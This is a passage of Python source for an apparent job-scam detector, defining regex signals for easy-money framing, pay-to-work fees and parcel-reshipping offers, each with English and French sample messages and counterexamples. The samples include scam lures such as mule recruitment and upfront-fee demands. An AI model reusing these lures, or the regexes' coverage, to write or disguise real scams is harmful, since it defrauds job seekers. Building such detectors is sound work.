        E("Vous recevrez plusieurs colis à votre adresse.",
          lang="fr",
          spans=("recevrez plusieurs colis à votre adresse",),
          note="at your address (R21-J)"),
        E("Vous recevrez des colis à votre adresse et vous les déposez à la poste.",
          lang="fr", spans=("recevrez des colis",), note="as 'you will receive packages' (R21-F)"),
        E("Je cherche un assistant personnel pour mon emploi du temps chargé.",
          lang="fr",
          spans=("assistant personnel",),
          note="masculine, as 'personal assistant' (R21-F)"),
        E("Vous serez notre intermédiaire local pour les paiements.",
          lang="fr", spans=("intermédiaire local pour les paiements",), note="review13, R20-K"),
        E("Vous serez notre représentant local pour les paiements.",
          lang="fr",
          spans=("représentant local pour les paiements",),
          note="as 'local payment representative' (R20-E)"),
        E("Vous devrez accepter des colis chez vous.", lang="fr", spans=("accepter des colis",)),
        E("You would accept parcels at home and send them on.", spans=("accept parcels",)),
        E("We need a virtual assistant to receive and reship packages from home.",
          spans=("virtual assistant", "receive and reship")),
        E("Hiring a payment processing agent, 2 hrs/day", spans=("payment processing agent",)),
        E("Poste d'assistante personnelle et réception de colis à domicile.", lang="fr",
          spans=("assistante personnelle", "réception de colis")),
        E("Mission de client mystère, rémunérée.", lang="fr", spans=("client mystère",)),
        E("Nous cherchons des gestionnaires de colis à domicile : vous recevez chez vous les "
          "paquets de nos fournisseurs.", lang="fr",
          spans=("gestionnaires de colis à domicile", "recevez chez vous les paquets")),
        E("The job: keying in handwritten receipts into a spreadsheet, plus you will receive "
          "shipments at your home, repack them and ship them to buyers.",
          spans=("keying in handwritten receipts into a spreadsheet",
                 "receive shipments at your home", "repack them and ship")),
        E("We need a home-based executive assistant, and shop evaluators for weekend visits.",
          spans=("home-based executive assistant", "shop evaluators")),
        E("Travail simple : taper des fiches clients dans un tableur, depuis chez vous.",
          lang="fr", spans=("taper des fiches clients dans un tableur",)),
        E("Vous recevrez des paquets à votre domicile et les réexpédierez à l'adresse indiquée "
          "par notre service ; poste de secrétaire en télétravail.", lang="fr",
          spans=("recevrez des paquets à votre domicile", "réexpédierez à l'adresse indiquée",
                 "secrétaire en télétravail")),
    ),
    counterexamples=(
        E("Vous recevrez des colis de fournitures pour votre bureau à domicile dès la "
          "signature du contrat.",
          lang="fr", note="remote onboarding (review17, R21-J)"),
        E("Vous recevrez votre ordinateur portable par colis avant votre premier jour.",
          lang="fr", note="one parcel from IT (R21-F)"),
        E("Nous recrutons un responsable des paiements (H/F) pour notre direction financière, "
          "CDI.",
          lang="fr", note="a finance job title (R20-K)"),
        E("We're hiring a senior payments engineer for our card-processing platform."),
        E("Poste d'ingénieur logistique, gestion des entrepôts, CDI.", lang="fr"),
        E("We're recruiting an Executive Assistant to our CFO, on site in Leeds, full time.",
          note="a real executive-assistant job, on site"),
        E("As data engineer you will move records from legacy systems into our warehouse."),
        E("Vous saisirez les informations dans notre CRM et suivrez les clients.", lang="fr",
          note="an ordinary sales-admin task, no spreadsheet-typing job"),
        E("You'll receive the equipment at your home address before your first day."),
        E("Vous recevrez chez vous votre ordinateur portable avant votre premier jour.",
          lang="fr"),
    ),
)

#: Anyone may apply, or pay on top of one's income: easy money only beside
#: :data:`_WORK_FROM_HOME` (rule R37-E).
_ANYONE_WELCOME = (r"\b(?:beginners?|novices?|newbies?) (?:are |is )?(?:welcome|accepted)\b"
                   r"|\bdebutante?s? (?:bienvenue?s?|acceptee?s?)\b"
                   r"|\bcomplements? de (?:revenus?|salaire)\b")
#: Work done remotely, from home or on a phone ("apply online" is no such work).
_WORK_FROM_HOME = (r"\b(?:remote|remotely|from home|at home|from your phone|on your phone"
                   r"|a domicile|depuis (?:la maison|chez (?:vous|toi|soi))|depuis (?:votre|ton)"
                   r" (?:telephone|portable|smartphone)|teletravail)\b")
EASY_MONEY = PatternSignal(
    name="easy_money",
    description="Frames the pay as easy money: pay per day or per task, paid the same day, a "
    "few hours a day, no experience needed, work from your phone.",
    category="inducement",
    polarity="risk",
    source="F3 (fraud form of M6): FTC Job Scams; consumer.gov; FBI 2017; LinkedIn Help; RMC; "
    "JDN; Léo Lagrange; Pôle emploi; Lausanne Cités; Take Five",
    patterns={
        "message": (
            # an amount per task is the fraud's framing; an amount per day or week alone is not
            # (contractor day rates and weekly pay are normal, RED-FLAGS F3): it counts with
            # "earn / make / get" (below), or as a "from X to Y a day" range
            _CUR + r" ?" + _NUM + r"(?: ?(?:-|to|a) ?" + _NUM + r")? ?(?:k )?(?:[a-z]{1,10} )?"
            r"(?:per|a|/|each|every) ?(?:task|order|review|click|like|video|post)\b",
            r"\b" + _NUM + r"(?: ?(?:-|to|a) ?" + _NUM + r")? ?(?:k )?" + _CUR_AFTER
            + r" ?(?:per|a|/"
            r"|each|every|par|la|le|l') ?(?:task|order|review|click|like|video|post|tache|mission"
            r"|capture|avis|commande)\b",
            # pay counted per piece of work, without the amount next to it
            r"\b(?:pays?|paid|payment|earn|earns|earning) (?:you |u )?(?:per|for each|for every"
            r"|on each|on every) (?:completed |finished |single |validated )?(?:task|assignment"
            r"|order|review|mission|survey|rating)\b"
            r"|\b(?:paye|payee|remunere|remuneree|payes|remuneres)s? (?:a la|par|pour chaque)"
            r" (?:tache|mission|commande|avis) (?:realisee?|terminee?|effectuee?|validee?)\b",
            # anyone can do it: "even a complete beginner can"; "beginners welcome",
            # « débutant accepté » (the standard field of real low-skill job ads, France
            # Travail's) and « complément de revenu » (a student job's wording) only with work
            # from home or a phone, the task scams' setting (rule R37-E, review52 H3)
            r"\b(?:even )?(?:a |an )?(?:complete|total|absolute) (?:beginner|novice)s? can\b"
            r"|\bmeme (?:les |un |une )?debutante?s? (?:peuvent|peut)\b",
            near(_ANYONE_WELCOME, _WORK_FROM_HOME, r"[\s\S]{0,150}?"),
            near(_WORK_FROM_HOME, _ANYONE_WELCOME, r"[\s\S]{0,150}?"),
            r"\barrondir (?:vos|tes|ses|les|mes) fins de mois\b|\bsupplement (?:your|ur) (?:income"
            r"|salary|earnings|wages)\b",
            r"\b(?:activite|job|travail|emploi|boulot) (?:complementaire|secondaire|d'appoint)"
            r" (?:tres |hyper |super |extremement )?(?:rentable|lucrative?|bien payee?)\b"
            r"|\b(?:very |highly |extremely |super )?(?:profitable|lucrative) (?:side )?(?:activity"
            r"|job|hustle|gig|opportunity) (?:from home|on the side|in your spare time)\b",
            r"\b(?:from|between|de|entre) " + _CUR + r"? ?" + _NUM + r" ?(?:k )?" + _CUR_AFTER
            + r"? ?(?:to|and|a|et) " + _CUR + r"? ?" + _NUM + r" ?(?:k )?" + _CUR_AFTER
            + r"? ?(?:(?:per|a|/|par) ?(?:day|jour)\b|daily\b|quotidiens?\b)",
            r"\b(?:only|just|all) (?:you )?(?:need|needs|require|required) (?:is )?(?:a|your|ur)"
            r" (?:phone|smartphone|mobile|cell ?phone)\b",
            r"\b(?:paid|payment|pay|payout|earnings|salary|commission)s?(?: is| are)?"
            r" (?:daily|the same day|same[- ]day|the same evening|same night|every day|each day"
            r"|instantly|weekly in advance)\b",
            r"\b(?:only |just )?(?:about |around |roughly |approximately )?(?:[1-4]|one|two|three"
            r"|a few|few|couple of|1-2|2-3|1 to 2|2 to 3|[1-6]0 ?min(?:utes)?|a few minutes)"
            r" ?(?:hours?|hrs?|h)? ?(?:a|per|each|every|/) ?day\b"
            r"|\b(?:only|just|about|around|roughly|approximately) an hour (?:a|per|each|every|/)"
            r" ?day\b",
            r"\bno (?:prior |previous )?(?:experience|skills|qualifications?|degree|cv|resume)"
            r" (?:is )?(?:needed|required|necessary|requested)\b",
            r"\bwith or without (?:any )?(?:prior |previous |work )?(?:experience|qualifications?"
            r"|skills)\b",
            r"\b(?:free training|training (?:is )?(?:provided|free|included|offered))\b",
            r"\bfrom (?:your|the comfort of your|home with your) (?:phone|smartphone|mobile|couch"
            r"|sofa|bed)\b|\bwith (?:just )?your (?:phone|smartphone)\b",
            r"\b(?:easy|simple|quick) (?:money|cash|income|tasks? (?:and|with) (?:good|high|great)"
            r" (?:pay|income|commission))\b",
            r"\b(?:earn|make|earning|making|get|getting|receive|receiving|increase your (?:wages"
            r"|income|pay|salary)) (?:" + ROUGHLY + r" |from |between |an extra |extra )?" + _CUR
            + r"? ?"
            + _NUM + r"(?: ?(?:-|to) ?" + _NUM + r")? ?(?:k )?" + _CUR_AFTER + r"?"
            r" ?(?:(?:per|a|/|each|every) ?(?:day|week|month|hour)\b|daily\b|weekly\b"
            r"|monthly\b)",
            r"\b(?:work|working|job|jobs) (?:from|at) home\b",
            r"\b(?:extra|additional|side|passive|second) (?:income|cash|earnings)\b",
            r"\b(?:make|earn|making|earning) (?:some |extra |good |quick |easy |real )?"
            r"(?:money|cash|income) (?:fast|easily|quickly|online|from home|from your phone"
            r"|in your (?:free|spare) time)\b",
            r"\b(?:part[- ]time|online|home[- ]based|side|simple|easy) (?:jobs?|gigs?|income)\b"
            r"|\bpart[- ]time (?:work|opportunit(?:y|ies)|online)\b",
            r"\bdaily (?:income|salary|pay|earnings|wages?|commission)\b",
            r"\b(?:the )?(?:work|job|tasks?) (?:is|are) (?:very |really |super |quite )?(?:simple"
            r"|easy)\b",
            r"\b(?:working )?hours (?:can be |are )?(?:arranged|chosen|set) (?:freely|by you"
            r"|yourself)\b",
            r"\bfree gift (?:cards?|vouchers?|certificates?)\b",
            # French
            r"\bsans (?:aucune )?(?:experience|qualification|diplome|cv|competence)s?"
            r"(?: particuliere| requise| necessaire| exigee)?\b",
            r"\b(?:quelques|[1-3]|une|deux|trois) ?(?:h|heures?|minutes) par jour\b",
            # (« complément de revenu / de salaire » is a student job's wording: rule R37-E)
            r"\brevenus? (?:complementaires?|supplementaires?|d'appoint)\b",
            r"\bformation (?:offerte|gratuite|fournie|assuree)\b",
            r"\bliberte d'horaires?\b|\bhoraires libres\b",
            r"\baucune? (?:experience|competence|qualification|connaissance)s?"
            r" (?:particuliere |prealable )?(?:n'est )?(?:requise?|necessaire|exigee?|demandee?)s?"
            r"\b",
            r"\b(?:paye|payee|payes|paiement|remuneration|remunere)e?s? (?:le soir meme"
            r"|le jour meme|chaque jour"
            r"|tous les jours|quotidien(?:ne)?(?:ment)?|journalier(?:e)?|immediat(?:e)?)\b",
            r"\bdepuis (?:votre|ton) (?:telephone|smartphone|portable|canape|lit)\b",
            r"\b(?:faisable|realisable|a faire|travailler|travail) (?:depuis|sur|avec)"
            r" (?:votre |ton |un |le |son )?(?:telephone|smartphone|portable|mobile)\b",
            r"\b(?:travail(?:ler)?|emploi|job|boulot) (?:a|de|depuis) (?:la maison|domicile"
            r"|chez (?:vous|toi|soi))\b|\bteletravail (?:a|de) domicile\b",
            r"\bpaye(?:e|s|es)? pour (?:ca|cela|le faire|ces taches)\b",
            r"\b(?:salaire|revenu|gain)s? (?:journalier|quotidien)s?\b",
            r"\bargent (?:facile|rapide)\b|\bgagner de l'argent (?:facilement|rapidement|en ligne"
            r"|depuis chez (?:vous|toi|soi)|pendant (?:votre|ton) temps libre)\b",
            r"\b(?:job|travail|emploi|boulot) (?:a temps partiel|en ligne|facile|simple)\b"
            r"|\b(?:gagner|gagnez|gagne|gagnes) (?:jusqu'a |entre |de |environ |env\. |pres de"
            r" |plus de )?" + _NUM + r" ?" + _CUR_AFTER,
            r"\b(?:certificat|bon d'achat|carte cadeau|bon cadeau)s? gratuite?s?\b",
        )
    },
    examples=(
        E("We're hiring remote product reviewers for an online store. Beginners welcome, "
          "flexible schedule.", spans=("remote product reviewers for an online store. "
                                       "Beginners welcome",)),
        E("Cherche personnes sérieuses pour complément de salaire, débutants acceptés, activité "
          "depuis la maison.", lang="fr",
          spans=("complément de salaire, débutants acceptés, activité depuis la maison",)),
        E("Earn $300 per day, only 1-2 hours a day from your phone, no experience required!",
          spans=("$300 per day", "1-2 hours a day", "from your phone",
                 "no experience required")),
        E("paid same day, training provided", spans=("paid same day", "training provided")),
        E("Hiring now, people with or without work experience",
          spans=("with or without work experience",)),
        E("Your CV has been approved and you can get 2889/day", spans=("get 2889/day",)),
        E("De 100 à 1 000 euros par jour, sans expérience, quelques heures par jour.", lang="fr",
          spans=("De 100 à 1 000 euros par jour", "sans expérience", "quelques heures par jour")),
        E("Pay is $25 per task, you can make $300 per day.",
          spans=("$25 per task", "make $300 per day")),
        E("You get paid for each validated survey, beginners welcome, payout the same evening.",
          spans=("paid for each validated survey", "payout the same evening")),
        E("Boulot d'appoint très rentable, 15 € la commande, débutants bienvenus.", lang="fr",
          spans=("Boulot d'appoint très rentable", "15 € la commande")),
        E("Idéal pour arrondir vos fins de mois, aucune expérience requise.", lang="fr",
          spans=("arrondir vos fins de mois", "aucune expérience requise")),
        E("This employment only takes about an hour per day with a $600.00 weekly pay.",
          spans=("about an hour per day",)),
    ),
    counterexamples=(
        E("Préparateur de commandes étudiant : travail étudiant / complément de salaire, "
          "débutants acceptés, tous les samedis de 10h à 14h.", lang="fr",
          note="a temp agency's student job (rule R37-E)"),
        E("Warehouse assistant, Saturdays only, beginners welcome: full training on site.",
          note="rule R37-E"),
        E("We offer a $2,000 annual budget for training and conferences.",
          note="a training budget the company pays"),
        E("Contract role, day rate agreed with your agency, 6 months in Leeds.",
          note="a contractor day rate without an amount per day of effort"),
        E("Salaire 55-65 k€, CDI à Nantes, deux jours de télétravail.", lang="fr"),
        E("You get 2 days per week at home and 25 days of leave.",
          note="days of leave or remote work, not pay per day"),
        E("6-month contract for a security architect, £650-700 per day inside IR35.",
          note="a contractor day rate (RED-FLAGS F3: day rates are normal)"),
        E("Travel nurse contract, 13 weeks, $2,400 per week plus housing stipend.",
          note="weekly pay of a real contract"),
        E("Mission de 6 mois, TJM 650-700 € par jour, deux jours sur site.", lang="fr",
          note="a contractor day rate"),
        E("Everyone is welcome to apply; the role suits an engineer with five years' "
          "experience.", note="an inclusive hiring line, no beginners promise"),
        E("Freelance translator, paid per project on invoice, 30-day terms."),
        E("Aucun diplôme n'est exigé pour candidater, mais 3 ans d'expérience en Java le sont.",
          lang="fr"),
        E("I spend an hour a day reviewing pull requests from the community.",
          note="an hour a day of one's own time, no pay framing"),
    ),
)

_COMPANY_PAYS = (
    r"\bno (?:[a-z\-]+ ){0,2}(?:fees?|charge|costs?|payment|deposit)\b"
    r"|\b(?:never|not|no|don't|do not|won't|will not|without) (?:(?:any|ask|asking|charge"
    r"|charging|candidates|applicants|you|for|to|pay|a|the)\s){0,3}(?:fees?|charge|costs?|payment"
    r"|money|deposit)\b"
    r"|\b(?:covered|paid|borne|reimbursed|handled|provided|shipped|sent) by (?:us|the company"
    r"|the employer|our company|the firm)\b|\bat (?:our|the company's|the employer's) (?:expense"
    r"|cost)\b|\bfree of charge\b"
    r"|\bwe(?:'ll| will)? (?:cover|pay for|sponsor|handle|take care of|provide)\b"
    # shipping counts when it is what the company pays for: a laptop, the equipment ("then we
    # send the job materials" pays for nothing)
    r"|\bwe(?:'ll| will)? (?:ship|send|courier|post|mail) (?:you )?(?:a |an |the |your |all"
    r" (?:the )?)?(?:company |work |new )?(?:laptops?|computers?|equipment|hardware|devices?"
    r"|monitors?|phones?|gear|macbook)\b"
    r"|\b(?:jamais|aucuns?|pas) (?:de |d')?frais\b|\bgratuite?s?\b"
    r"|\b(?:prend|prendra|prendront|prennent|prenons|prendrons) (?:entierement |integralement )?"
    r"en charge\b|\b(?:rien|aucun frais|aucune somme) a (?:avancer|payer|regler|debourser)\b"
    r"|\bpris en charge par (?:nous"
    r"|l'entreprise|la societe|l'employeur)\b|\ba (?:nos|la charge de l'employeur) frais\b"
)
#: The candidate told to pay (F4, direction of money): a match in a clause that says so is the
#: red flag itself, so no reassurance in its sentence cancels it (rules R18-A, R18-H of the
#: notes). A fee only named may still be ("there is a training fee, but it is covered by us").
#: Payment apps and rails a candidate is told to pay through (F4), in pay_to_work's patterns and
#: in its instruction to pay
_PAY_APPS = (r"(?:zelle|cash ?app|venmo|paypal|western union|moneygram|apple pay|remitly"
             r"|worldremit|bitcoin|btc|usdt|crypto)")
_PAY_APPS_FR = (r"(?:paypal|western union|moneygram|mandat cash|lydia|wero|pcs|transcash|neosurf"
                r"|bitcoin|crypto|usdt)")
_YOU_MUST = (r"(?:\b(?:you|u)(?:'ll|'d| will| would)? (?:need|needs|have|has|must|should"
             r"|will have|are required|are expected|are asked)|\b(?:you|u)'re (?:required"
             r"|expected|asked))")
_MONEY_OBJECT = (r"(?:us |me )?(?:the |a |an |your |some )?(?:[$€£]|[0-9]|money|payment|fees?"
                 r"|deposit|funds)")
_CANDIDATE_PAYS = (
    _YOU_MUST + r" (?:to )?(?:pay|deposit|transfer|wire)\b"
    r"|" + _YOU_MUST + r" (?:to )?(?:send|buy|purchase) " + _MONEY_OBJECT +
    r"|\b(?:please|kindly|pls|just) (?:pay|transfer|deposit|wire)\b"
    r"|\b(?:please|kindly|pls|just) send " + _MONEY_OBJECT +
    r"|^ ?(?:pay|transfer|wire) "
    r"|\b(?:pay|send|transfer|wire)\b[^.!?]{0,40}\b(?:via|through|using|with|on|by) "
    + _PAY_APPS + r"\b"
    r"|\b(?:buy|purchase|order)\b[^.!?]{0,40}\bfrom (?:our|the|my) (?:approved |designated "
    r"|preferred |certified )?(?:vendor|supplier|store|shop)\b"
    # French
    r"|\b(?:vous|tu) (?:devez|devrez|devriez|dois|devras|aurez a|auras a|allez devoir|vas"
    r" devoir) (?:d'abord |au prealable |prealablement |juste |simplement |seulement )?(?:payer"
    r"|verser|regler|debourser|virer)\b"
    r"|\b(?:merci de|veuillez|pensez a|il suffit de) (?:nous |me )?(?:regler|payer|verser"
    r"|debourser|virer|effectuer)\b"
    r"|\b(?:payez|reglez|versez|virez)\b"
    r"|\beffectue[rz]? (?:un|le) (?:virement|paiement|versement)\b"
    r"|\b(?:vous|t') ?acquitter\b"
    r"|\b(?:payez|reglez|versez|envoyez|virez|payer|regler|verser|envoyer)\b[^.!?]{0,40}"
    r"\b(?:via|par|avec|sur) " + _PAY_APPS_FR + r"\b"
    r"|\b(?:faut|faudra|faudrait) (?:vous |te )?(?:d'abord |au prealable |prealablement |juste"
    r" |seulement |simplement )?(?:payer|verser|regler|debourser)\b"
)
#: A warning or a negation before the instruction in its clause: "if anyone tells you that you
#: need to pay a fee, it is a scam", "at no stage will you need to pay", « si quelqu'un vous dit
#: que vous devez payer », « ne payez jamais ».
#: The company as the subject of a purchase ("we'll", "IT will", "HR has"): it hedges a firm
#: "order ... from our vendor" (:data:`_CANDIDATE_PAYS_HEDGE`) and opens the closed formula of
#: :data:`_COMPANY_ORDERS` (rule R36-C).
_COMPANY_SUBJECT = (r"\b(?:we|(?:our |the )?it(?: team| department)?|the company|hr)(?:'ll| will"
                    r"| would| can| are going to| have| has)?")
_CANDIDATE_PAYS_HEDGE = (
    r"\bif (?:anyone|anybody|someone|somebody|a recruiter|a company|an employer|they|a person"
    r"|people)\b|\bat no (?:point|stage|time)\b|\bnever\b|\bnot\b|n't\b|\bno one\b|\bnobody\b"
    r"|\bsi (?:quelqu'un|on|l'on|une personne|un recruteur|une entreprise)\b|\ba aucun moment\b"
    r"|\bjamais\b|\bpas\b|\bne\b|\bn'"
    # the company is who buys ("we'll order your laptop from our supplier", "IT will order your
    # equipment from our approved vendor"), right before the instruction's verb (rule R36-C)
    r"|" + _COMPANY_SUBJECT + r" $"
)
#: The company orders the equipment from its supplier (rules R36-C, R36-G): « votre ordinateur
#: est commandé chez notre fournisseur », « nous commandons votre matériel chez notre
#: fournisseur », "we'll order your laptop from our supplier". The matching form has no
#: accents, so « commandé » reads as the imperative « commande » and only the subject tells who
#: buys. A closed formula (``unless_template``): it cancels the order phrase it holds and
#: nothing else, so a fee named beside it stays (review48 H3).
_COMPANY_ORDERS = (
    r"\b(?:est|sera|sont|seront|a ete|ont ete|va etre|vont etre|nous|on) (?:deja |bientot "
    r"|directement )?(?:commande|achete|commandons|achetons|commanderons|acheterons)e?s?"
    r"(?: (?:votre|ton|vos|tes|le|la|les) [a-z\-]+(?: [a-z\-]+)?)? (?:chez|aupres de|via)"
    r" (?:notre|nos) (?:[a-z\-]+ )?(?:fournisseur|prestataire|revendeur|magasin|boutique)s?\b"
    r"|" + _COMPANY_SUBJECT + r" (?:order|buy|purchase)\b[^.!?;,]{0,40}\b(?:from|through|via)"
    r" (?:our|the|a|an|my) (?:[a-z\-]+ )?(?:vendor|supplier|partner|store|shop)s?\b"
)
PAY_TO_WORK = PatternSignal(
    name="pay_to_work",
    description="Asks the candidate to pay to get or start the job: a training, registration, "
    "background-check or visa fee, a starter kit, equipment bought from 'our vendor'.",
    category="fraud",
    polarity="risk",
    source="F4: FTC alerts 2020/2021; consumer.gov; FBI 2017/2020; LinkedIn Help; Action Fraud "
    "/NFIB; City of London Police/SAFERjobs; Get Safe Online; DGCCRF; Pôle emploi; Take Five",
    unless=_COMPANY_PAYS,
    unless_scope="sentence",
    unless_template=_COMPANY_ORDERS,
    firm=_CANDIDATE_PAYS,
    firm_except=_CANDIDATE_PAYS_HEDGE,
    # "... we never charge candidates for interviews": the interview is free, not the fee
    unless_except=r" (?:candidates |applicants |you |anyone )?(?:for|to) (?:the |an |a |your "
    r"|any |job )?(?:interviews?|interviewing|apply|applying|applications?)\b"
    r"| (?:pour|lors de|lors des) (?:les |l'|vos |votre |la )?(?:entretiens?|candidatures?"
    r"|postuler)\b",
    patterns={
        "message": (
            r"\b(?:training|registration|application|processing|onboarding|admin|administrative"
            r"|administration|enrol?ment|membership|placement|uniform|visa|background check|crb"
            r"|dbs|police check|certification|activation|starter|security|refundable|equipment"
            r"|insurance|work permit|booking|accommodation|housing|shipping|delivery|courier"
            r"|postage) (?:fee|fees|deposit"
            r"|charge)s?\b",
            _YOU_MUST + r" (?:to )?(?:pay|purchase|buy|deposit|cover|send|transfer) (?:a |an |the"
            r" |your |for |some )?(?:[a-z\-]+ )?(?:fee|fees|deposit|money|payment|equipment"
            r"|software|laptop|kit|materials|training|license|licence|[$€£])",
            # a bare figure is money after pay, deposit, transfer or buy, not after send ("you
            # will need to send 2 references"; rule R18-N)
            _YOU_MUST + r" (?:to )?(?:pay|purchase|buy|deposit|cover|transfer) (?:a |an |the"
            r" |your |for |some )?(?:[a-z\-]+ )?[0-9]"
            r"|" + _YOU_MUST + r" (?:to )?send (?:us |me )?[0-9][0-9,. ]*(?:k ?)?(?:[$€£]|usd|eur"
            r"|gbp|dollars?|euros?|pounds?)",
            r"\bstarter (?:kit|pack|package)\b",
            _CUR + r" ?" + _NUM + r" (?:will be |shall be |is |are )?(?:used|paid|charged|payable"
            r"|required|needed) (?:to cater |to pay )?for (?:the |your )?(?:training|uniforms?"
            r"|registration|application|processing|medicals?|badges?|id cards?|forms?|kits?)\b",
            r"\b(?:equipment|software|supplies|materials|devices?|laptops?) from (?:the |our |a |an"
            r" |approved |designated |preferred |certified )*vendors?\b",
            r"\b(?:buy|purchase|order) (?:the |your |ur |some |all )?(?:needed |required "
            r"|necessary )?"
            r"(?:equipment|software|laptop|materials|supplies|kit|license|licence|devices?|office"
            r" equipment|home[- ]office(?: set[- ]?up| equipment| kit| furniture)?|set[- ]?up"
            r"|workstation|hardware|computer|tools)s? (?:from|through|via) (?:our|the|a|an|my)"
            r" (?:vendor|supplier|partner|approved|designated|preferred|certified|store|shop)\b",
            near(r"\b(?:pay|fee|deposit|payment|transfer|send)\b",
                 r"\bto (?:secure|reserve|hold|confirm|activate|unlock|guarantee) (?:your |the "
                 r"|a )?"
                 r"(?:position|place|spot|slot|job|role|account|contract|start date|seat)\b"),
            r"\b(?:(?:reimburs|refund)\w{0,4} (?:you )?|(?:added|paid|credited|given) back )(?:late"
            r"r"
            r"|afterwards|after|once|in|with|on|onto|to|into|from)"
            r" (?:your |the )?(?:first|1st|next)? ?(?:pay|paycheck|paycheque|salary|payslip|payday"
            r"|month|week|wage)\b",
            # the purpose first ("to secure your place, please send..."); a payment the candidate
            # makes "to cover" a check, visa or training
            near(r"\bto (?:secure|reserve|hold|confirm|activate|unlock|guarantee)"
                 r" (?:your |the |a )?(?:position|place|spot|slot|job|role|account|contract"
                 r"|start date|seat)\b",
                 r"\b(?:pay|fee|deposit|payment|wire)\b|\b(?:send|transfer)\b[^.!?;]{0,20}"
                 + _CUR),
            near(r"\b(?:please|kindly|pls|just|you (?:must|need to|have to|should|will need to"
                 r"|are required to)) (?:pay|send|transfer|deposit|wire)\b",
                 r"\bto cover (?:the |your )?(?:(?:cost|price) of (?:the |your )?)?(?:[a-z\-]+ ){0,"
                 r"2}"
                 r"(?:vetting|checks?|clearance|training|registration|uniforms?|visas?|certificatio"
                 r"n"
                 r"|processing|insurance|kit|materials|equipment|permit)\b"),
            # a cost the candidate must send on ("costs 450, which must be transferred to our
            # agent")
            r"(?:" + _CUR + r" ?" + _NUM + r"|" + _NUM + r" ?" + _CUR_AFTER + r"),? (?:which|that)"
            r" (?:must|has to|needs to|should|will need to|is to) be (?:paid|transferred|sent|wired"
            r"|settled|deposited|remitted) (?:by you|upfront|up front|in advance|first|before|to"
            r" (?:us|our|the|my|an?))\b",
            r"\b(?:must|has to|needs to|will need to|is to) be (?:paid|transferred|wired|deposited"
            r"|remitted) to (?:our|the|my) (?:[a-z\-]+ ){0,2}(?:agent|agency|vendor|lawyer"
            r"|consultant|representative|trainer|supplier)\b",
            # a cost stated, then the payment asked for ("the training kit costs $150, pay it
            # via Zelle"); the candidate told to pay through a payment app (payroll pays them by
            # direct deposit, never the other way)
            r"\b(?:kit|training|course|equipment|starter pack|materials|certification|registration"
            r"|uniform|laptop|software|onboarding|license|licence) (?:costs?|will cost|comes to"
            r"|amounts to|is priced at) (?:only |just )?(?:" + _CUR + r" ?" + _NUM + r"|" + _NUM
            + r" ?" + _CUR_AFTER + r")[^.!?]{0,60}\b(?:pay|send|transfer|wire|deposit)\b",
            r"(?:^|[.!?,;:] |\b(?:please|kindly|pls|just|then|you (?:must|need to|have to|should"
            r"|will|can|'ll)) )(?:pay|send|transfer|wire)(?: it| them| (?:the|a|an|your|this|that)"
            r"(?: [$€£]?[0-9][0-9,.]*(?: ?(?:[$€£]|usd|eur|gbp|dollars?|euros?))?)?(?: [a-z\-]+)?"
            r" (?:fee|fees|amount|money|balance|deposit|payment|cost|sum))? (?:via|through|using"
            r"|with|on|by) " + _PAY_APPS + r"\b",
            r"\b(?:kit|formation|materiel|equipement|inscription|certification|licence|logiciel)"
            r" (?:coute|coutera|revient a|s'eleve a) (?:seulement |juste )?(?:" + _CUR + r" ?"
            + _NUM + r"|" + _NUM + r" ?" + _CUR_AFTER
            + r")[^.!?]{0,60}\b(?:payer|payez|regler|reglez"
            r"|verser|versez|virer|virez|envoyer|envoyez)\b",
            r"\b(?:payez|reglez|versez|envoyez|virez|payer|regler|verser|envoyer)(?:-le|-les| le"
            r"| les| la somme| le montant| les frais)? (?:via|par|avec|sur) " + _PAY_APPS_FR
            + r"\b",
            # French
            r"\bfrais (?:de |d')(?:formation|dossier|inscription|adhesion|ouverture|gestion"
            r"|traitement|activation|materiel|equipement|visa)\b|\bfrais administratifs\b",
            r"\bkit de demarrage\b|\bavance de frais\b",
            r"\b(?:verser|versez|payer|payez|regler|reglez|deposer|envoyer|envoyez) (?:un |une"
            r" |des |le |la |les )?(?:acompte|caution|frais|avance|participation|cotisation)\b",
            r"\b(?:acheter|achetez|commander|commandez) (?:le |du |votre |un |les |des )?"
            r"(?:materiel|logiciel|equipement|kit|ordinateur)s? (?:aupres de|chez|via) (?:notre"
            r"|nos|un|le)\b",
            # bought from "our supplier", whatever the objects, as "buy ... from our approved
            # vendor" (probe12, R21-H)
            r"\b(?:achet|command)\w{0,5}\b[^.!?]{0,40}\b(?:chez|aupres de|via) (?:notre|nos)"
            r" (?:fournisseur|prestataire|revendeur|magasin|boutique)s?\b",
            r"\brembourse(?:e|s|es)? (?:sur|avec|des|lors de|a) (?:votre |ton |le |la )?"
            r"(?:premier|1er|premiere) (?:salaire|paie|virement|mois)\b",
            # the fee in the passive or impersonal ("a deposit of $150 is required", « un acompte
            # de 150 EUR est demande », « il faudra payer 50 euros »): F4 says who pays, not how
            r"\b(?:deposit|fee|charge|down payment|advance payment) of (?:" + _CUR + r" ?" + _NUM
            + r"|" + _NUM + r" ?" + _CUR_AFTER
            + r")(?: \w+)? (?:is|will be|must be|has to be|shall be"
            r"|should be) (?:required|needed|payable|charged|due|expected|paid (?:before|upfront"
            r"|up front|in advance|first|by you|to (?:us|our|the (?:agency|trainer|vendor))))\b",
            r"\b(?:acompte|caution|frais|participation|cotisation|avance)(?: \w+){0,2}"
            r"(?: de (?:" + _CUR + r" ?" + _NUM + r"|" + _NUM + r" ?" + _CUR_AFTER
            + r"))? (?:est|sont"
            r"|sera|seront) (?:demande|exige|requis|a regler|a payer|a verser|obligatoire)e?s?\b",
            r"\b(?:il (?:vous |te )?)?(?:faut|faudra|faudrait) (?:d'abord |au prealable"
            r" |prealablement |juste |seulement |simplement )?"
            r"(?:payer|verser|regler|debourser) (?:un |une |des |les |le |la |vos |votre )?"
            r"(?:acompte|caution|frais|somme|montant|participation|cotisation|" + _NUM + r")",
            # an amount "of" a fee ("89 EUR d'ouverture de compte", "120 EUR de certification")
            r"(?:" + _CUR + r" ?" + _NUM + r"|" + _NUM + r" ?" + _CUR_AFTER
            + r") (?:de |d')(?:frais"
            r"|formation|certification|inscription|dossier|ouverture|activation|adhesion|caution"
            r"|materiel|kit)\b",
            r"\b(?:merci de|veuillez|pensez a|il suffit de) (?:nous |me )?(?:regler|payer|verser"
            r"|debourser|virer) (?:un |une |des |les |le |la |vos |votre )?(?:" + _NUM + r"|frais"
            r"|acompte|caution|somme|montant|participation|cotisation)",
            near(r"\bpour (?:debloquer|valider|reserver|securiser|garantir|confirmer|activer)"
                 r" (?:votre|ton|ta) (?:poste|place|inscription|candidature|embauche|contrat"
                 r"|compte)\b",
